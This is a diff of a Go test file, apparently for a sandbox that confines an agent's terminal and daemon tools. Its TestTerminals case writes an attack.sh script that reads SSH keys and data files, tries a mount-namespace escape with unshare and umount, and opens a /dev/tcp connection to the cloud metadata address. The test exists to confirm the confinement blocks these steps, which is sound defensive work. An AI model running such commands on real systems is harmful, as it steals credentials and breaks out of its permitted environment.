@@ -51,6 +51,7 @@ func TestDaemons(t *testing.T) {
 			both(t, func(_ *testing.T, s *scene) { daemon(s, "sleep 0.02") })
 		})
 		t.Run(name+" and no time left", func(t *testing.T) {
+			t.Parallel()
 			s := newScene(t)
 			s.Env.Timeout = 500 * time.Millisecond
 			daemon(s, "sleep 300")
@@ -108,7 +109,7 @@ func TestTerminals(t *testing.T) {
 	for name, device := range map[string]bool{"pipes": false, "device": true} {
 		t.Run(name, func(t *testing.T) {
 			s := confined(t)
-			before := tree(t, s.outside, s.home, s.data)
+			before := tree(t, s.outside, home, s.data)
 			s.Write("attack.sh", s.variables()+`cat "$HOME"/.ssh/* "$DATA"/*; echo x >"$OUT/new"; unshare -Urm sh -c 'umount "$0"; cat "$0"/*' "$DATA"; exec 3<>/dev/tcp/169.254.169.254/80 && echo SES''AME`+"\necho tried\n")
 			id, _ := s.call("terminal_open", args{"command": "bash", "args": []string{"--norc"}, "pty": device}).Output["terminal_id"].(string)
 			if r := s.call("terminal_write", args{"terminal_id": id, "input": "bash attack.sh\nexit\n"}); r.Error {
